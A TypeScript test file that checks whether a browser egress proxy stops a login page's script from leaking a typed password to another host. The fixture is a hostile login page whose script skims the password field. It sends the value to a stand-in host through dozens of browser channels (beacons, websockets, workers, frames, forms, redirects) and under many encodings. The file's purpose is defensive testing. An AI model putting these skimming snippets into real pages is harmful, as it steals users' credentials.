import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Duplex } from 'node:stream';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type BrowserProxy, startBrowserProxy } from '#platform/egress/browser-proxy.ts';
import type { LoginSequence } from '#product/runs/api/login-sequence.ts';
import { type BrowserPool, createBrowserPool } from '../visit/browser-pool.ts';
import { createCpuScheduler } from '../visit/cpu-scheduler.ts';
import { signInToSite } from './sign-in.ts';

const user = 'hanako-7c1f@example.jp';
const password = 'Himitsu!9d2e "4b" & ひみつ/+?';

/** How a page writes a value so that it looks like another; each is a script's expression of `v`. */
const writings: [name: string, script: string][] = [
  ['as it is', 'v'],
  ['URL-encoded', 'encodeURIComponent(v)'],
  ['URL-encoded twice', 'encodeURIComponent(encodeURIComponent(v))'],
  ['as a form does', 'new URLSearchParams({ v }).toString()'],
  ['in entities', "encodeURIComponent(v.replace(/[\\s\\S]/gu, c => '&#' + c.codePointAt(0) + ';'))"],
  [
    'in hexadecimal entities',
    "encodeURIComponent(v.replace(/[\\s\\S]/gu, c => '&#x' + c.codePointAt(0).toString(16) + ';'))",
  ],
  ['in named entities', "encodeURIComponent(v.replace(/&/g, '&amp;').replace(/\"/g, '&quot;'))"],
  ['in base64', 'encodeURIComponent(base64(v))'],
  ['in base64 behind others', "encodeURIComponent(base64('a' + v)) + '.' + encodeURIComponent(base64('ab' + v))"],
  ['in base64url', "base64(v).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')"],
  ['in hexadecimal digits', "Array.from(new TextEncoder().encode(v), b => b.toString(16).padStart(2, '0')).join('')"],
  ['in JSON', 'encodeURIComponent(JSON.stringify({ v }))'],
  [
    'escaped for scripts',
    "encodeURIComponent(v.replace(/[^a-z]/g, c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0')))",
  ],
];

/** Ways to send something to `to`, an address at another host. */
const ways: [name: string, script: string][] = [
  ['fetch', "fetch(to, { mode: 'no-cors' }).catch(() => 0)"],
  ['fetch with a body', "fetch(other + '/body', { method: 'POST', mode: 'no-cors', body: w }).catch(() => 0)"],
  ['XMLHttpRequest', "{ const x = new XMLHttpRequest(); x.open('GET', to); x.send(); }"],
  ['a header', "fetch(other + '/header', { headers: { 'x-word': encodeURIComponent(w) } }).catch(() => 0)"],
  [
    'the referrer',
    "{ history.replaceState(null, '', '?' + w); fetch(other + '/referrer', { mode: 'no-cors', referrerPolicy: 'unsafe-url' }).catch(() => 0); history.replaceState(null, '', location.pathname); }",
  ],
  ['a beacon', "navigator.sendBeacon(other + '/beacon', w); navigator.sendBeacon(to)"],
  ['an image', 'new Image().src = to'],
  ['a style', "document.body.style.backgroundImage = 'url(' + JSON.stringify(to) + ')'"],
  ['a style sheet', "add('link', { rel: 'stylesheet', href: to })"],
  ['a script', "add('script', { src: to })"],
  ['a module', 'import(to).catch(() => 0)'],
  ['a preload', "add('link', { rel: 'preload', as: 'image', href: to }); add('link', { rel: 'prefetch', href: to })"],
  ['a video', "add('video', { src: to, poster: to, autoplay: '' })"],
  ['an event stream', 'new EventSource(to)'],
  ['a frame', "add('iframe', { src: to })"],
  ['a frame without the value', "add('iframe', { src: other + '/frame', name: w })"],
  [
    'a form into a frame',
    "{ add('iframe', { name: 'f' + n }); const f = add('form', { action: other + '/form', target: 'f' + n }); f.append(Object.assign(document.createElement('input'), { name: 'w', value: w })); f.submit(); }",
  ],
  [
    'a posted form into a frame',
    "{ add('iframe', { name: 'g' + n }); const f = add('form', { action: to, method: 'post', target: 'g' + n }); f.submit(); }",
  ],
  ['an object', "add('object', { data: to }); add('embed', { src: to })"],
  [
    'a websocket',
    "new WebSocket(to.replace('http', 'ws')); { const s = new WebSocket(other.replace('http', 'ws') + '/socket'); s.onopen = () => s.send(w); }",
  ],
  [
    'a worker',
    "new Worker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ', { mode: \"no-cors\" })'])))",
  ],
  [
    'a worker with a websocket',
    "new Worker(URL.createObjectURL(new Blob(['new WebSocket(' + JSON.stringify(to.replace('http', 'ws')) + ')'])))",
  ],
  [
    'a shared worker',
    "new SharedWorker(URL.createObjectURL(new Blob(['fetch(' + JSON.stringify(to) + ', { mode: \"no-cors\" })'])))",
  ],
  ['a service worker', "navigator.serviceWorker.register('/sw.js?' + encodeURIComponent(to)).catch(() => 0)"],
  ['a redirect of the site', "fetch('/away?' + encodeURIComponent(to), { mode: 'no-cors' }).catch(() => 0)"],
  ['the frame that was there before', "document.querySelector('#before').contentWindow.postMessage(to, '*')"],
  ['the socket that was open before', 'early.send(w)'],
];
/** On the click of a person, a page may open others. */
const clicked: [name: string, script: string][] = [
  ['a window', 'window.open(to)'],
  ['a link to a window', "add('a', { href: to, target: '_blank', rel: 'noopener' }).click()"],
  ['a ping', "{ const a = add('a', { href: '#', ping: to }); a.click(); }"],
];

/** Ways that no login has, whatever hosts it names. */
const closed = ['a shared worker', 'a service worker', 'a window', 'a link to a window', 'a ping'];

let proxy: BrowserProxy;
let pool: BrowserPool;
beforeAll(async () => {
  const resolve = async () => ['127.0.0.1'];
  proxy = await startBrowserProxy({ allow: ['127.0.0.1', 'other.test'], resolve });
  pool = createBrowserPool({ proxyUrl: proxy.url, log: () => undefined });
});
afterAll(async () => {
  await pool?.close();
  await proxy?.close();
});

interface Heard {
  origin: string;
  /** Requests with their headers and bodies, and what sockets were sent. */
  lines: string[];
  close(): Promise<void>;
}

/** A host that takes and notes everything, also of sockets. */
async function listenTo(host: string, page: (path: string) => string): Promise<Heard> {
  const lines: string[] = [];
  const sockets = new Set<Duplex>();
  const server = createServer(async (request, response) => {
    let body = '';
    for await (const chunk of request) body += String(chunk);
    lines.push(`${request.method} ${request.url} ${JSON.stringify(request.headers)} ${body}`);
    const away = /^\/away\?(.*)/.exec(request.url ?? '')?.[1];
    if (away !== undefined) return response.writeHead(302, { location: decodeURIComponent(away) }).end();
    const isScript = request.url?.startsWith('/sw.js') ?? false;
    response.writeHead(200, {
      'content-type': isScript ? 'text/javascript' : 'text/html; charset=utf-8',
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
    });
    response.end(page(request.url ?? '/'));
  });
  server.on('upgrade', (request, socket) => {
    const accept = createHash('sha1').update(
      `${request.headers['sec-websocket-key']}258EAFA5-E914-47DA-95CA-C5AB0DC85B11`,
    );
    lines.push(`SOCKET ${request.url}`);
    socket.on('data', chunk => lines.push(`SOCKET DATA ${request.url}/data ${chunk.length}`));
    socket.on('error', () => undefined);
    socket.write(
      `HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: ${accept.digest('base64')}\r\n\r\n`,
    );
    sockets.add(socket);
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://${host}:${(server.address() as AddressInfo).port}`,
    lines,
    async close() {
      for (const socket of sockets) socket.destroy();
      server.closeAllConnections();
      await new Promise(resolve => server.close(resolve));
    },
  };
}

/** A login whose script sends what is typed to another host, and lets people in all the same. */
const hostile = (
  other: string,
  onInput: string,
  onClick: string,
) => `<!doctype html><meta charset="utf-8"><title>a</title>
<iframe id="before" src="${other}/before"></iframe>
<form method="post" action="/in"><input id="user" name="user"><input id="word" type="password" name="word"><button>In</button></form>
<script>
const other = ${JSON.stringify(other)};
let n = 0;
const base64 = v => btoa(String.fromCharCode(...new TextEncoder().encode(v)));
const add = (name, attributes) => {
  const element = document.createElement(name);
  for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
  document.body.append(element);
  return element;
};
const early = new WebSocket(other.replace('http', 'ws') + '/early');
const tell = run => { const v = document.querySelector('#word').value; if (v !== '') { n += 1; try { run(v); } catch {} } };
document.querySelector('#word').addEventListener('change', () => tell(v => { ${onInput} }));
document.querySelector('#word').addEventListener('input', () => tell(v => { ${onInput} }));
document.querySelector('button').addEventListener('click', () => tell(v => { ${onClick} }));
document.querySelector('form').addEventListener('submit', event => {
  event.preventDefault();
  setTimeout(() => event.target.submit(), 1500);
});
</script>`;
const frame = `<!doctype html><script>addEventListener('message', ({ data }) => {
  fetch(data, { mode: 'no-cors' }).catch(() => 0); new Image().src = data; location = data; });</script>`;
const serviceWorker = (url: string) => {
  const to = decodeURIComponent(url.slice('/sw.js?'.length));
  return `fetch(${JSON.stringify(to)}, { mode: 'no-cors' }).catch(() => 0)`;
};

const steps: LoginSequence = {
  steps: [
    { action: 'go', url: '/login' },
    { action: 'fill', target: { by: 'css', selector: '#user' }, value: user },
    { action: 'fill', target: { by: 'css', selector: '#word' }, value: password },
    { action: 'click', target: { by: 'css', selector: 'button' } },
  ],
  success: { kind: 'text', text: 'Welcome' },
  allowedHosts: [],
};

/** What another host has heard after somebody signed in at a page with these scripts; `isNamed`: the login names that host. */
async function heardBy(onInput: string, { onClick = '', isNamed = false } = {}) {
  const other = await listenTo('other.test', path => (path.startsWith('/before') ? frame : ''));
  const site = await listenTo('127.0.0.1', path => {
    if (path.startsWith('/in')) return '<!doctype html><title>b</title><p>Welcome</p>';
    return path.startsWith('/sw.js') ? serviceWorker(path) : hostile(other.origin, onInput, onClick);
  });
  const sequence = { ...steps, allowedHosts: isNamed ? [new URL(other.origin).host] : [] };
  try {
    const result = await signInToSite(
      { sequence, site: `${site.origin}/`, origins: [site.origin], session: null, picture: false },
      {
        pool,
        gate: createCpuScheduler(),
        credentials: undefined,
        signal: new AbortController().signal,
        onStep: () => undefined,
      },
    );
    return { result, heard: other.lines, site: site.lines };
  } finally {
    await Promise.all([other.close(), site.close()]);
  }
}

/** What the page asks for before anything is filled in, and a question that holds nothing. */
const isHarmless = (line: string) => /^GET \/(before|favicon\.ico) |^OPTIONS \/way-a-header\/header /.test(line);

/** Each way at an address of its own. */
const scriptOf = (all: typeof ways) =>
  all
    .map(([name, script]) => {
      const path = `/way-${name.replaceAll(' ', '-')}`;
      return `{ const w = v; const here = other; { const other = here + '${path}'; const to = other + '?' + encodeURIComponent(w); try { ${script} } catch {} } }`;
    })
    .join('\n');
const waysHeard = (lines: string[]) =>
  ways
    .concat(clicked)
    .flatMap(([name]) =>
      lines.some(
        line =>
          line.includes(`/way-${name.replaceAll(' ', '-')}`) ||
          (name === 'the socket that was open before' && line.includes('/early/data')),
      )
        ? [name]
        : [],
    );

describe('a page that sends what is filled in elsewhere, and lets people in', () => {
  test('reaches the other host in each of these ways, where the login names that host', async () => {
    const { heard, result } = await heardBy(scriptOf(ways), { onClick: scriptOf(clicked), isNamed: true });
    expect(waysHeard(heard)).toEqual(
      ways
        .concat(clicked)
        .map(([name]) => name)
        .filter(name => !closed.includes(name)),
    );
    expect(result).toMatchObject({ status: 'signed-in' });
  });

  test('is held back in each of them, and the form itself is sent to the site', async () => {
    const { heard, site, result } = await heardBy(scriptOf(ways), { onClick: scriptOf(clicked) });
    expect(heard.filter(line => !isHarmless(line))).toEqual([]);
    expect(heard.filter(isHarmless).length).toBeGreaterThan(0);
    expect(site.some(line => line.startsWith('POST /in ') && line.includes(encodeURIComponent(user)))).toBe(true);
    expect(result).toMatchObject({ status: 'signed-in' });
  });

  test('is held back however the value is written, in an address and a path; pictures without it are loaded', async () => {
    const all = writings.flatMap(([name, w]) => [
      `new Image().src = other + '/to-${name}?' + ${w}`,
      `fetch(other + '/to-${name}/' + ${w} + '/x', { mode: 'no-cors' }).catch(() => 0)`,
    ]);
    const { result, heard } = await heardBy(`${all.join(';')}; new Image().src = other + '/harmless.png'`);
    const paths = heard.filter(line => !isHarmless(line)).map(line => line.split(' ')[1]);
    expect([...new Set(paths)]).toEqual(['/harmless.png']);
    expect(result).toMatchObject({ status: 'signed-in' });
  });
});
